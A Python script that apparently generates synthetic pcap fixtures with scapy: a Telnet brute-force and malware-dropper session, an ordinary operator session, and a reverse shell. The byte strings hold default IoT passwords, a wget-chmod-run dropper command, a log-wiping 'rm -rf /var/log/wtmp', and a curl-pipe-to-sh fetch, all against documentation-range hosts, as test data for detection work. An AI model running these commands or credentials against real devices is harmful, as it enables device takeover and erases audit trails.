# SPDX-License-Identifier: GPL-2.0-only
"""Make captures of sessions in the clear: an attack over Telnet, ordinary work, a reverse shell.

Nothing is random, so every run writes the same bytes. Nobody's session: dialogues are written as
login(1), BusyBox and bash print them. It imports scapy, which is GPL-2.0-only, and so is this file;
it is a recipe and no part of the package.

    python pcaps/make_cleartext_commands.py
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether
from scapy.packet import Packet
from scapy.utils import RawPcapWriter

Ends = tuple[tuple[str, int], tuple[str, int]]
Said = tuple[bool, bytes]  # whether the client says it, and what

START = 1_795_500_000  # 2026-11-24 06:00:00 UTC
STEP = 200_000  # microseconds between packets
ASKS, ACCEPTS = b"\xff\xfd\x18\xff\xfd\x20", b"\xff\xfc\x18\xff\xfc\x20"  # DO, WONT terminal, speed
ECHOES = b"\xff\xfb\x01\xff\xfb\x03"  # WILL ECHO, WILL SUPPRESS-GO-AHEAD
BUSYBOX = b"\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# "
DROPPED = b"cd /tmp; wget http://203.0.113.66/bins/arm7 -O .a; chmod 777 .a; ./.a telnet"


def logon(name: bytes, password: bytes, answer: bytes) -> tuple[Said, ...]:
    """A name and a password, and what the server says to them."""
    return (
        (True, name + b"\r\n"),
        (False, name + b"\r\nPassword: "),
        (True, password + b"\r\n"),
        (False, b"\r\n" + answer),
    )


def command(line: bytes, output: bytes, prompt: bytes = b"# ") -> tuple[Said, ...]:
    """A command, which the server echoes, and what it writes."""
    return (True, line + b"\r\n"), (False, line + b"\r\n" + output + prompt)


AGAIN = b"Login incorrect\r\ncamera login: "
OPENING: tuple[Said, ...] = ((False, ASKS), (True, ACCEPTS), (False, ECHOES + b"camera login: "))
ATTACK = (
    *OPENING,
    *logon(b"root", b"xc3511", AGAIN),
    *logon(b"root", b"vizxv", AGAIN),
    *logon(b"admin", b"admin", AGAIN),
    *logon(b"root", b"1234", AGAIN),
    *logon(b"root", b"54321", AGAIN),
    *logon(b"root", b"888888", BUSYBOX),
    *command(b"cat /proc/cpuinfo | head -1", b"Processor\t: ARMv7 rev 5 (v7l)\r\n"),
    *command(DROPPED, b"Connecting to 203.0.113.66 (203.0.113.66:80)\r\n"),
    *command(b"rm -rf /var/log/wtmp", b""),
)
PROMPT = b"operator@camera:~$ "
WORK = (
    *OPENING,
    *logon(b"operator", b"long and secret", b"Last login: Mon Nov 23 06:00:00 2026\r\n" + PROMPT),
    *command(b"uptime", b" 06:00:04 up 12 days,  1 user\r\n", PROMPT),
    *command(b"df -h /", b"Filesystem  Size  Used\r\n/dev/root   120M   80M\r\n", PROMPT),
    *command(b"exit", b"logout\r\n", b""),
)
ROOT = b"root@web:/# "
REVERSE: tuple[Said, ...] = (
    (True, b"bash: cannot set terminal process group (611): Inappropriate ioctl for device\n"),
    (True, b"bash: no job control in this shell\n"),
    (True, ROOT),
    (False, b"id\n"),
    (True, b"id\nuid=0(root) gid=0(root) groups=0(root)\n" + ROOT),
    (False, b"curl -s http://198.51.100.77/x.sh | sh\n"),
    (True, b"curl -s http://198.51.100.77/x.sh | sh\ndone\n" + ROOT),
)

CAPTURES: dict[str, tuple[Ends, tuple[Said, ...]]] = {
    "telnet_attack": ((("203.0.113.66", 50523), ("10.20.0.30", 23)), ATTACK),
    "telnet_work": ((("203.0.113.20", 50524), ("10.20.0.30", 23)), WORK),
    "reverse_shell": ((("10.20.0.10", 50525), ("198.51.100.77", 9001)), REVERSE),
}


def main() -> None:
    """Write the captures beside this file."""
    for name, (ends, said) in CAPTURES.items():
        target = Path(__file__).with_name(f"{name}.pcap")
        with RawPcapWriter(str(target), linktype=1, sync=True) as writer:
            writer.write_header(None)
            for place, packet in enumerate(conversation(ends, said)):
                second, microsecond = divmod(place * STEP, 1_000_000)
                writer.write_packet(bytes(packet), sec=START + second, usec=microsecond)


def conversation(ends: Ends, said: tuple[Said, ...]) -> Iterator[Packet]:
    """Handshake, what is said, each acknowledged, and the ends."""
    sides = Sides(ends)
    yield from (sides.segment(True, "S"), sides.segment(False, "SA"), sides.segment(True, "A"))
    for by_client, payload in said:
        yield sides.segment(by_client, "PA", payload)
        yield sides.segment(not by_client, "A")
    yield from (sides.segment(True, "FA"), sides.segment(False, "FA"), sides.segment(True, "A"))


class Sides:
    """Both ends of the connection: what each has sent, by sequence number."""

    def __init__(self, ends: Ends) -> None:
        self.client, self.server = ends
        self.next = {True: 1_000, False: 9_000}
        self.packets = 0

    def segment(self, by_client: bool, flags: str, payload: bytes = b"") -> Packet:
        """One frame of one side, which counts its sequence numbers."""
        source, target = (self.client, self.server) if by_client else (self.server, self.client)
        self.packets += 1
        segment = TCP(
            sport=source[1],
            dport=target[1],
            flags=flags,
            seq=self.next[by_client],
            ack=self.next[not by_client] if "A" in flags else 0,
            window=64_240,
        )
        self.next[by_client] += len(payload) + sum(flags.count(flag) for flag in "SF")
        link = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02", type=0x0800)
        return link / IP(src=source[0], dst=target[0], id=self.packets) / segment / payload


if __name__ == "__main__":
    main()
